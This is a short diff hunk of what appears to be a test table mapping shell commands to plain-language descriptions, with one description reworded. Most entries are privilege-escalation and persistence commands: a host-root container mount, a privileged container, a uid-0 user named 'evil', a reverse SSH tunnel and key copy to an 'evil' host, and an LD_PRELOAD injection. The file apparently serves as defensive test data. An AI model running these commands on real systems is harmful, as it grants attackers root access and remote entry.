@@ -21,7 +21,7 @@ test.each([
   ['docker run -v /:/host alpine', 'run a container with everything mounted'],
   ['podman run --privileged alpine', 'a privileged container'],
   ['sudo useradd -o -u 0 evil', 'add a user evil'],
-  ['ssh -N -R 22:localhost:22 evil', 'open a reverse tunnel'],
+  ['ssh -N -R 22:localhost:22 evil', 'open a reverse tunnel to evil'],
   ['ssh-copy-id evil@evil', 'copy my key there'],
   ['export LD_PRELOAD=/tmp/x.so', 'set LD_PRELOAD to /tmp/x.so'],
   ["alias ll='ls -l'", 'make an alias ll'],
